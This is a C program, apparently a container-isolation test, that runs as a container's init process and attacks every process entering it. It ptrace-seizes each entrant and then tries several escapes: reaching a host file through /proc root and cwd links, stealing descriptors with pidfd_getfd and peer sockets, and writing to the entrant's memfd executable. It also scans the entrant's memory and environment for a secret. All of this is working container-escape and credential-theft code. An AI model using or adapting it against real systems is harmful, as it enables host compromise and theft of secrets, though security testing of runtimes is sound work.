/* A container's first process that lies in wait for whoever enters: it stops each newcomer as soon as it is there, and takes
 * what it can of it: its root, directories, program, descriptors and those of the processes behind them, memory and
 * environment. And it looks for a way to send descriptors to whoever is at the other end of one. What it finds of the host goes to /tmp/findings, and how many it met to /tmp/met.
 *
 * lurker SECRET HOST_FILE: what to look for, and a file of the host's that holds it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

enum { MOST_FDS = 64, MOST_DEPTH = 3 };

static const char *secret, *host_file;
static FILE *findings;
static int early, refused, all;

static void found(int pid, const char *what) {
  fprintf(findings, "process %d: %s\n", pid, what);
  fflush(findings);
}

static int holds_secret(const char *bytes, size_t length) { return memmem(bytes, length, secret, strlen(secret)) != NULL; }

static int file_holds_secret(int fd) {
  static char bytes[1 << 16];
  ssize_t length = pread(fd, bytes, sizeof bytes, 0);
  return length > 0 && holds_secret(bytes, length);
}

/* Whether the host's file can be reached from a directory, by its own names or by any number of steps up. */
static int reaches_host(int directory) {
  char path[512] = "";
  for (int depth = 0; depth < 12; depth++) {
    char whole[1024];
    snprintf(whole, sizeof whole, "%s%s", path, host_file + 1);
    int fd = openat(directory, whole, O_RDONLY | O_NONBLOCK);
    if (fd >= 0) {
      int hit = file_holds_secret(fd);
      close(fd);
      if (hit) return 1;
    }
    strcat(path, "../");
  }
  return 0;
}

static void look_at_magic_link(int pid, const char *name) {
  char path[64], what[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, O_PATH | O_DIRECTORY);
  if (fd < 0) return;
  snprintf(what, sizeof what, "the host by its %s", name);
  if (reaches_host(fd)) found(pid, what);
  close(fd);
}

/* Whether descriptors that are sent by a socket arrive, where to close them can take as long as the sender likes. */
static int carries_descriptors(int socket) {
  int ends[2];
  if (pipe(ends)) return 0;
  struct iovec data = {"\"Executed\"", 10};
  char control[CMSG_SPACE(sizeof(int))] = {0};
  struct msghdr header = {
      .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *rights = CMSG_FIRSTHDR(&header);
  *rights = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
  memcpy(CMSG_DATA(rights), &ends[1], sizeof(int));
  sendmsg(socket, &header, MSG_DONTWAIT | MSG_NOSIGNAL);
  close(ends[1]);
  struct pollfd end = {.fd = ends[0]};
  int arrives = poll(&end, 1, 0) == 0;
  close(ends[0]);
  return arrives;
}

static void look_behind_pidfd(int pid, int pidfd, int depth, const char *way);

/* What a descriptor that was taken is good for. */
static void look_at_descriptor(int pid, int fd, int depth, const char *way) {
  char what[256];
  unsigned number;
  struct stat stat;
  if (fstat(fd, &stat) == 0 && S_ISREG(stat.st_mode) && file_holds_secret(fd)) {
    snprintf(what, sizeof what, "a file of the host by %s", way);
    found(pid, what);
  }
  if (fstat(fd, &stat) == 0 && S_ISDIR(stat.st_mode) && reaches_host(fd)) {
    snprintf(what, sizeof what, "a directory of the host by %s", way);
    found(pid, what);
  }
  if (ioctl(fd, TIOCGPTN, &number) == 0) {
    snprintf(what, sizeof what, "the master of a terminal by %s", way);
    found(pid, what);
  }
  if (depth == 0 && carries_descriptors(fd)) found(pid, "a socket that carries descriptors to the supervisor");
  if (depth == MOST_DEPTH) return;
  char next[200];
  int peer;
  socklen_t length = sizeof peer;
  if (getsockopt(fd, SOL_SOCKET, SO_PEERPIDFD, &peer, &length) == 0) {
    snprintf(next, sizeof next, "%s, its socket's maker", way);
    look_behind_pidfd(pid, peer, depth + 1, next);
    close(peer);
  }
  snprintf(next, sizeof next, "%s, a pidfd", way);
  look_behind_pidfd(pid, fd, depth + 1, next);
}

static void look_behind_pidfd(int pid, int pidfd, int depth, const char *way) {
  for (int number = 0; number < MOST_FDS; number++) {
    int fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
    if (fd < 0 && errno != EBADF) return;
    if (fd < 0) continue;
    char next[240];
    snprintf(next, sizeof next, "%s, descriptor %d", way, number);
    look_at_descriptor(pid, fd, depth, next);
    close(fd);
  }
}

static void look_at_memory(int pid) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "r");
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int mem = open(path, O_RDONLY);
  while (maps && mem >= 0 && fgets(line, sizeof line, maps)) {
    unsigned long start, end;
    char rights[8];
    if (sscanf(line, "%lx-%lx %7s", &start, &end, rights) != 3 || rights[0] != 'r' || rights[1] != 'w') continue;
    size_t size = end - start;
    char *bytes = malloc(size);
    ssize_t length = bytes ? pread(mem, bytes, size, start) : -1;
    if (length > 0 && holds_secret(bytes, length)) found(pid, "the secret in its memory");
    free(bytes);
  }
  if (maps) fclose(maps);
  if (mem >= 0) close(mem);
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  int environ = open(path, O_RDONLY);
  if (environ >= 0 && file_holds_secret(environ)) found(pid, "the secret in its environment");
  if (environ >= 0) close(environ);
}

static void look_at_program(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDWR);
  if (fd < 0) return;
  /* The container's own programs are its own to write to. */
  char link[256] = "";
  if (readlink(path, link, sizeof link - 1) > 0 && strncmp(link, "/memfd:", 7) == 0 && pwrite(fd, "x", 1, 0) == 1)
    found(pid, "its program, to write to");
  close(fd);
}

static void look_at_namespaces(int pid) {
  char path[320], theirs[64], ours[64], what[400];
  snprintf(path, sizeof path, "/proc/%d/ns", pid);
  DIR *names = opendir(path);
  struct dirent *entry;
  while (names && (entry = readdir(names))) {
    if (entry->d_name[0] == '.') continue;
    memset(theirs, 0, sizeof theirs);
    memset(ours, 0, sizeof ours);
    snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, entry->d_name);
    if (readlink(path, theirs, sizeof theirs - 1) <= 0) continue;
    snprintf(path, sizeof path, "/proc/self/ns/%s", entry->d_name);
    if (readlink(path, ours, sizeof ours - 1) <= 0 || strcmp(theirs, ours) == 0) continue;
    snprintf(what, sizeof what, "another namespace: %s, and not %s", theirs, ours);
    found(pid, what);
  }
  if (names) closedir(names);
}

static void rob(int pid) {
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  look_at_magic_link(pid, "root");
  look_at_magic_link(pid, "cwd");
  look_at_program(pid);
  look_at_namespaces(pid);
  if (pidfd >= 0) look_behind_pidfd(pid, pidfd, 0, "its descriptors");
  if (pidfd >= 0) close(pidfd);
  look_at_memory(pid);
}

static void meet(int pid) {
  char path[64], link[64] = "";
  int status;
  all++;
  int held = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
  if (held) {
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    held = waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
  } else if (errno == EPERM) {
    refused++;
  }
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  if (readlink(path, link, sizeof link - 1) > 0 && strncmp(link, "/memfd:", 7) == 0) early++;
  rob(pid);
  if (held) ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int count, char **words) {
  if (count != 3) return 2;
  secret = words[1];
  host_file = words[2];
  findings = fopen("/tmp/findings", "w");
  int met = open("/tmp/met", O_RDWR | O_CREAT | O_TRUNC, 0644);
  int last = 1;
  FILE *given = fopen("/proc/sys/kernel/ns_last_pid", "r");
  if (given && fscanf(given, "%d", &last) != 1) return 2;
  for (;;) {
    /* Numbers are given in turn; between two looks no more than a few can have been. */
    for (int pid = last + 1; pid < last + 32; pid++) {
      if (syscall(SYS_kill, pid, 0) != 0 && errno == ESRCH) continue;
      meet(pid);
      last = pid;
      char text[64];
      int length = snprintf(text, sizeof text, "%8d %8d %8d\n", all, early, refused);
      pwrite(met, text, length, 0);
      break;
    }
  }
}
